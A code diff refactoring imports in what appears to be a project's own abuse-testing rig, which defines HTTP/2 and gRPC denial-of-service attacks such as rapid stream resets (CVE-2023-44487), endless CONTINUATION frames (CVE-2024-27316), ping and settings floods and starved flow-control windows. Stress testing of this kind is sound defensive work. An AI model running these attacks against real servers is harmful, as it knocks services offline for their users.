@@ -17,24 +17,15 @@ import grpc
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from grpc_health.v1 import health_pb2
 
-from isthmus.experiments.rigs.abuse.http2 import (
-    CONTINUATION,
-    INITIAL_WINDOW,
-    PING,
-    PREFACE,
-    RST_STREAM,
-    SETTINGS,
-    Connection,
-    field,
-    frame,
-)
+from isthmus.experiments.rigs.abuse import http2
+from isthmus.experiments.rigs.abuse.http2 import Connection, field, frame
 from isthmus.protocol.secure.keys import Fingerprint
 from isthmus.protocol.service import METHOD, write_frame
 from isthmus.protocol.session import EdgeSession
 
 CHECK: Final = "/grpc.health.v1.Health/Check"
 WATCH: Final = "/grpc.health.v1.Health/Watch"
-STARVED: Final = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", INITIAL_WINDOW, 0))
+STARVED: Final = http2.PREFACE + frame(http2.SETTINGS, 0, 0, struct.pack("!HI", http2.INITIAL_WINDOW, 0))
 """Opens a connection, and leaves no window for any answer."""
 
 Attack = Callable[[str, int], AbstractContextManager[list[Connection]]]
@@ -127,7 +118,7 @@ def _reset_streams(host: str, port: int) -> Connection:
     connection = Connection(host, port)
     for _ in range(2000):
         stream = connection.request(METHOD)
-        connection.send(frame(RST_STREAM, 0, stream, (8).to_bytes(4)))
+        connection.send(frame(http2.RST_STREAM, 0, stream, (8).to_bytes(4)))
     return connection
 
 
@@ -136,7 +127,7 @@ def _endless_headers(host: str, port: int) -> Connection:
     stream = connection.request(METHOD, flags=0)
     part = field(b"x-more", b"a" * 16_000)
     for _ in range(500):
-        connection.send(frame(CONTINUATION, 0, stream, part))
+        connection.send(frame(http2.CONTINUATION, 0, stream, part))
     return connection
 
 
@@ -170,7 +161,7 @@ ATTACKS: Final[dict[str, Attack]] = {
     "compressed_hellos": _compressed(METHOD, lambda: bytes(4_000_000)),
     # Connections on which nothing comes, half of the preface, and no stream.
     "silent_connections": held(lambda host, port: Connection(host, port, b"", mute=True), 256),
-    "half_prefaces": held(lambda host, port: Connection(host, port, PREFACE[:-1], mute=True), 256),
+    "half_prefaces": held(lambda host, port: Connection(host, port, http2.PREFACE[:-1], mute=True), 256),
     "idle_connections": idle_connections(),
     # Streams in which nothing comes, the second with header fields as long as a server takes.
     "silent_streams": open_streams(METHOD),
@@ -184,8 +175,8 @@ ATTACKS: Final[dict[str, Attack]] = {
     "starved_streams": open_streams(METHOD, body=_hello, opening=STARVED),
     "starved_checks": open_streams(CHECK, body=lambda: _message(b""), opening=STARVED),
     # Frames whose acknowledgements are not read.
-    "pings": _flood(frame(PING, 0, 0, bytes(8))),
-    "settings": _flood(frame(SETTINGS, 0, 0)),
+    "pings": _flood(frame(http2.PING, 0, 0, bytes(8))),
+    "settings": _flood(frame(http2.SETTINGS, 0, 0)),
     "resets": held(_reset_streams),  # "rapid reset", CVE-2023-44487
     "continuations": held(_endless_headers),  # header fields that do not end, CVE-2024-27316
 }
